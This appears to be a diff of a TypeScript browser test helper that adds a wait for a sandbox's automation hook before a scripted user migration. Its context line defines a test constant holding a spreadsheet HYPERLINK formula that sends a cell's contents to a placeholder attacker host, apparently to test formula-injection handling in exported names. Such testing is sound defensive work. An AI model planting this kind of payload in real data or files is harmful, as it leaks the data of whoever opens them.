@@ -11,10 +11,15 @@ export const FORMULA_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"Click me")
  * to inventory (migration done). One user gets a formula-like last name and a name with a comma,
  * quotes and an accent.
  */
-export async function scriptedMigration(page: Page) {
+/** openSandbox can return before the app has mounted: wait for the automation hook too. */
+export async function waitForSandbox(page: Page) {
 	await page.waitForFunction(
 		() => (window as unknown as { __sandbox?: { ready: boolean } }).__sandbox?.ready
 	);
+}
+
+export async function scriptedMigration(page: Page) {
+	await waitForSandbox(page);
 	return page.evaluate(async (formula) => {
 		const w = window as unknown as {
 			__sandbox: {
